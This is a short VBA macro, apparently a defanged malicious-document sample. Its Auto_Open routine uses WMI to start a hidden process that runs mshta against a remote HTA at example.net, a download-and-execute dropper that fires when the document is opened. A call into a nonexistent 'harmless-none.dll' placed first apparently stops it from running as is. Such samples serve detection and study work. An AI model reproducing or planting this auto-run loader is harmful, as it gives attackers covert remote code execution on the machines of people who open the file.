Private Declare PtrSafe Function StopHere Lib "harmless-none.dll" () As Long
Sub Auto_Open()
    StopHere
    Dim wmi As Object, start As Object, id As Long
    Set wmi = GetObject("winmgmts:{impersonationLevel=impersonate}!\\.\root\cimv2")
    Set start = wmi.Get("Win32_ProcessStartup").SpawnInstance_
    start.ShowWindow = 0
    wmi.Get("Win32_Process").Create "mshta http://example.net/x.hta", Null, start, id
End Sub
